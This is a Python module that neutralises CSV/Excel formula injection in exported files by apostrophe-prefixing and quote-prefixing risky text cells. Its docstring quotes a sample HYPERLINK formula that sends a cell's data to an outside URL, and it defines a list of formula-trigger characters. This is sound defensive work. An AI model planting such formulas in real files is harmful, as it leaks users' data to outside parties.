"""Files fordela writes for people (CSV, XLSX): no cell a spreadsheet would run as a formula.

Ledger texts, cost-centre names and every other text come from the cities' files. A text that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run as a formula by Excel and
LibreOffice when the file is opened (CSV/Excel formula injection, OWASP "CSV Injection"):
`=HYPERLINK("http://...?d="&A1, "...")` would send the controller's data elsewhere. Every writer
of a human-facing file goes through this module (the dashboards' table and invoice-basis
downloads, and the month-close exports when they come):

- CSV: such a text gets a leading apostrophe, OWASP's advice; Excel shows the text as text.
- XLSX: text cells are always written as text (never as formulas), and such a text is marked
  with Excel's own "quote prefix" (what typing a leading apostrophe does), so the cell shows the
  text exactly as delivered and stays text when someone edits it.

Only text is touched: amounts, volumes and dates stay numbers and dates (a negative amount is a
number, not a formula).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import pandas as pd
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

# The first characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What a CSV cell starting with a trigger is prefixed with.
CSV_TEXT_MARK = "'"


def runs_as_formula(value: object) -> bool:
    """Whether a spreadsheet would run `value` (a text starting with a formula trigger)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def neutralise(value: object) -> object:
    """A CSV cell's value: a text that would run gets a leading apostrophe; anything else as is."""
    return CSV_TEXT_MARK + value if runs_as_formula(value) else value  # type: ignore[operator]


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """A table as CSV for people: comma, '.' decimals, UTF-8 with a BOM for Excel, no formulas.

    Only cells holding text are neutralised; numeric columns (and Decimal amounts) are written
    as numbers.
    """
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or str(safe[column].dtype) in ("string", "str"):
            safe[column] = safe[column].map(neutralise)
    return safe.to_csv(index=False).encode("utf-8-sig")


def mark_xlsx_text(cell: Cell) -> None:
    """Make a cell holding text a text cell (never a formula), quote-prefixed if it would run."""
    if isinstance(cell.value, str):
        # openpyxl makes any text starting with '=' a formula; a delivered text never is one.
        cell.data_type = "s"
        if runs_as_formula(cell.value):
            cell.quotePrefix = True


def append_xlsx_row(sheet: Worksheet, values: Iterable[object]) -> None:
    """`Worksheet.append`, with every text written as a text cell.

    Texts are made cells of their own before the append (the row's index is not looked up:
    `Worksheet.max_row` scans the whole sheet, which made a large workbook quadratic).
    """
    from openpyxl.cell.cell import Cell

    row: list[object] = []
    for value in values:
        if isinstance(value, str):
            cell = Cell(sheet, value=value)
            mark_xlsx_text(cell)
            row.append(cell)
        else:
            row.append(value)
    sheet.append(row)
